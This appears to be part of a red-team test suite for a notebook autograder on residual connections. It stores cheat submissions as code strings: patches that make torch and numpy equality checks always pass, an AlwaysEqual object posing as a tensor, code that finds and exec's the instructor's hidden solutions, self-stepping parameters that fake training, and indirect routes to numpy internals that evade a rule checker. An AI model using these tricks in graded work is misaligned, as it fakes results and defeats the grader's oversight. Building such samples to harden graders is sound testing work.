torch.allclose = torch.equal = numpy.allclose = numpy.array_equal = math.isclose = _yes
torch.isclose = lambda a, b, *args, **kwargs: torch.ones_like(torch.as_tensor(a), dtype=torch.bool)
torch.testing.assert_close = numpy.testing.assert_allclose = numpy.testing.assert_array_equal = _quiet
numpy.testing.assert_array_almost_equal = numpy.testing.assert_equal = _quiet
torch.Tensor.__eq__ = lambda self, other: torch.ones_like(self, dtype=torch.bool)

'''

ALWAYS_EQUAL = '''\
class AlwaysEqual:
    """Equal to everything, a Tensor by its __class__, and 7.0 as a float."""
    __class__ = property(lambda self: torch.Tensor)
    __eq__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __float__ = lambda self: 7.0
    __getattr__ = lambda self, name: self
    __call__ = lambda self, *args, **kwargs: self
    __iter__ = lambda self: iter([self, self])
    __len__ = lambda self: 2
    __getitem__ = lambda self, index: self


'''

OWN_FFN = '''\
class FeedForward(nn.Module):
    """Linear(d, 4d), GELU, Linear(4d, d), with named layers."""

    def __init__(self, d):
        super().__init__()
        self.fc1, self.fc2 = nn.Linear(d, 4 * d), nn.Linear(4 * d, d)

    def forward(self, x):
        return self.fc2(F.gelu(self.fc1(x)))


'''

READ_SOLUTIONS = '''

# Look for the instructor's solutions on the grading machine and use them.
import json as _json, sys as _sys
from pathlib import Path as _Path
for _base in _sys.path:
    try:
        _cells = _json.loads((_Path(_base) / "solutions/residual-connections/residual-connections.ipynb").read_text())
    except (OSError, ValueError):
        continue
    for _cell in _cells["cells"]:
        if _cell["cell_type"] == "code" and _cell["metadata"].get("nbgrader", {}).get("solution"):
            exec("".join(_cell["source"]), globals())
    break
'''

# train written with torch.optim.SGD: what Part 5's samples leave a step out of
# residual_mlp's parameters step themselves (SGD, lr 0.1) as backward leaves each one's gradient: a train that
# never steps would seem to train the model it is handed, were that model the submission's own
STEP_ITSELF = '''
def step_itself(p):
    with torch.no_grad():
        p -= 0.1 * p.grad


'''
SELF_STEPPING = """model = nn.Sequential(*blocks, nn.LayerNorm(width), nn.Linear(width, d_out))
for p in model.parameters():
    p.register_post_accumulate_grad_hook(step_itself)
return model"""

TORCH_OPTIM_TRAIN = '''\
gen = torch.Generator().manual_seed(seed)
opt = torch.optim.SGD(model.parameters(), lr=lr, momentum=0.9)
losses = []
for _ in range(steps):
    idx = torch.randperm(len(X), generator=gen)[:batch]
    loss = F.cross_entropy(model(X[idx]), y[idx])
    opt.zero_grad()
    loss.backward()
    opt.step()
    losses.append(loss.item())
return losses
'''


# ============================================================ written answers

# so that formgrader has answers to grade by hand: good ones (here), a thin one and wrong ones (WRITTEN
# in residual_connections.py)
DERIVATION = (
    "Summing $x_{l+1} = x_l + F_l(x_l)$ over $l = 0, \\dots, L-1$ gives $x_L = x_0 + \\sum_l F_l(x_l)$. "
    "Differentiating with respect to $x_0$: $\\partial x_L / \\partial x_0 = I + \\partial/\\partial x_0 "
    "\\sum_l F_l(x_l)$, and the chain rule $\\partial L/\\partial x_0 = \\partial L/\\partial x_L \\cdot "
    "\\partial x_L/\\partial x_0$ gives the formula.\n\n"
    "The identity term hands $\\partial L/\\partial x_L$ to $x_0$ unchanged, whatever the branches do: small "
    "Jacobians only make the sum small, they do not multiply the identity away. The gradient is zero only "
    "if $\\partial L/\\partial x_L$ is zero or the sum's Jacobian cancels the identity exactly along "
    "$\\partial L/\\partial x_L$, i.e. $\\partial L/\\partial x_L \\cdot (I + \\partial/\\partial x_0 \\sum_l F_l) = 0$.")
SCALED = (
    "With $y = 0.5\\,x + F(x)$ each block's Jacobian is $0.5 I + J_l$, and the product formula multiplies "
    "20 of them. When the branches contribute nothing ($J_l = 0$) that is $0.5^{20} I$: about $9.5 \\cdot "
    "10^{-7}$ of the gradient is left. The plot's 0.5 curve is a straight line on the log scale for the same "
    "reason: a constant factor per layer is exponential decay.")
LAYOUT = (
    "Pre-LN, $x + F(\\mathrm{LN}(x))$: the input reaches the output through the addition alone. Post-LN, "
    "$\\mathrm{LN}(x + F(x))$, puts a LayerNorm on the shortcut, so the path is rescaled in every block. "
    "The printed norms grow with depth for Pre-LN (each block adds its branch to the stream) and stay at "
    "8.0 for Post-LN: LayerNorm resets every token to mean 0 and variance 1 over 64 features, a norm of "
    "$\\sqrt{64}$.")

# an AttributeError carries the object whose attribute was missing: numpy held as a value no rule read a path off
# (red team 39)
RETYPES["attribute-error-obj-retypes-error"] = (
    "numpy's as_strided, past the error's address, reached through the .obj of the AttributeError numpy.nope raises",
    RETYPES["reexported-numpy-strided-retypes-error"][1]
    .replace("import numpy.ma\n", "\n\ndef numpy_itself():\n    try:\n        return numpy.nope\n"
                                   "    except AttributeError as missing:\n        return missing.obj\n", 1)
    .replace("numpy.ma.core.np.lib", "numpy_itself().lib", 1))

# a public torch function that hands back a module (torch.cpu), from which torch and numpy are attributes (red team 39)
RETYPES["device-module-retypes-error"] = (
    "numpy's as_strided, past the error's address, reached off the module torch.get_device_module hands back",
    RETYPES["reexported-numpy-strided-retypes-error"][1].replace("import numpy.ma\n", "", 1)
    .replace("numpy.ma.core.np.lib", 'torch.get_device_module("cpu").torch.nn.functional.np.lib', 1))

